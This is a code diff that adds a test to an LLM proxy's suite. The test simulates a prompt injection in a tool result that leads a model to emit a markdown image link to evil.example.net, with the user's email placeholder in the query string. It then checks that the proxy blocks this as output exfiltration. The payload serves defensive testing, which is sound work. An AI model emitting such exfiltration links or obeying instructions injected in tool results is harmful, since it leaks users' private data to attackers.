@@ -5,6 +5,7 @@ streamed and not. The fake provider answers with the `x-fake-reply` header's tex
 from urllib.parse import urlparse
 
 import base64
+import json
 
 import anthropic
 import openai
@@ -108,3 +109,34 @@ def test_images_from_allowed_hosts_pass_and_others_are_refused(proxy):
             for _ in s.text_stream:
                 pass
     assert "output_exfiltration" in str(err.value)
+
+
+
+@pytest.mark.parametrize("stream", [False, True], ids=["whole", "sse"])
+def test_a_placeholder_planted_in_a_tool_result_cannot_carry_the_users_address_out(
+        proxy, fake_provider, stream):
+    fake_provider.clear()
+    messages = [
+        {"role": "user", "content": "Any new mail? I am jane@example.com"},
+        {"role": "assistant", "content": None, "tool_calls": [{
+            "id": "call_1", "type": "function", "function": {"name": "inbox", "arguments": "{}"}}]},
+        {"role": "tool", "tool_call_id": "call_1", "content": "1 new message from <EMAIL_1>: lunch?"},
+    ]
+    # The model, steered by the tool result, links the user's placeholder: restored, it is data.
+    link = "Done ![l](https://evil.example.net/l.png?c=<EMAIL_2>)"
+    if stream:
+        received = []
+        with pytest.raises(openai.APIError) as err:
+            parts = oai(proxy, link).chat.completions.create(
+                model="gpt-4o-mini", messages=messages, stream=True)
+            received.extend(c.choices[0].delta.content or "" for c in parts if c.choices)
+        assert "output_exfiltration" in str(err.value)
+        assert "jane" not in "".join(received)
+    else:
+        r = requests.post(f"{proxy.url}/v1/chat/completions", headers=fake_reply(link), timeout=30,
+                          json={"model": "gpt-4o-mini", "messages": messages})
+        assert "jane" not in r.text and r.json()["error"]["code"] == "output_exfiltration", r.text
+    sent = json.loads(fake_provider.last_request()["body"])["messages"]
+    # The user's address got a placeholder the tool result did not already carry.
+    assert sent[0]["content"] == "Any new mail? I am <EMAIL_2>"
+    assert sent[2]["content"] == "1 new message from <EMAIL_1>: lunch?"
